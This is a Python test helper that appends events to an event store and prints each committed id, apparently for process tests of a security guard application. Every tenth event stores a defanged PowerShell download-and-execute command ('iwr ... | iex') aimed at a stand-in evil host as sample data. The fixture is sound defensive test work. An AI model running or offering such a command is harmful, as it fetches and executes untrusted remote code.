"""A guard stand-in for the process tests: appends events and reports each committed id.

`python -m tests.app.storage.writer DIR COUNT` appends COUNT events (0: until killed) to the
store in DIR, printing each id on stdout as soon as `append` returned it (i.e. committed), then
prints `done <pending>` once closed.
"""

from __future__ import annotations

import itertools
import sys
from pathlib import Path

from app.storage import EventStore
from tests.app.storage.conftest import make_event


def main(directory: str, count: int) -> None:
    store = EventStore.open(Path(directory), sinks=["syslog"])
    out = sys.stdout
    numbers = itertools.count() if count == 0 else range(count)
    for i in numbers:
        original = f"iwr hxxps://evil[.]test/{i} | iex" if i % 10 == 0 else None
        event_id = store.append(make_event(summary=f"event {i}"), original=original)
        out.write(f"{event_id}\n")
        out.flush()
    store.flush(force=True)
    pending = store.pending
    store.close()
    out.write(f"done {pending}\n")
    out.flush()


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
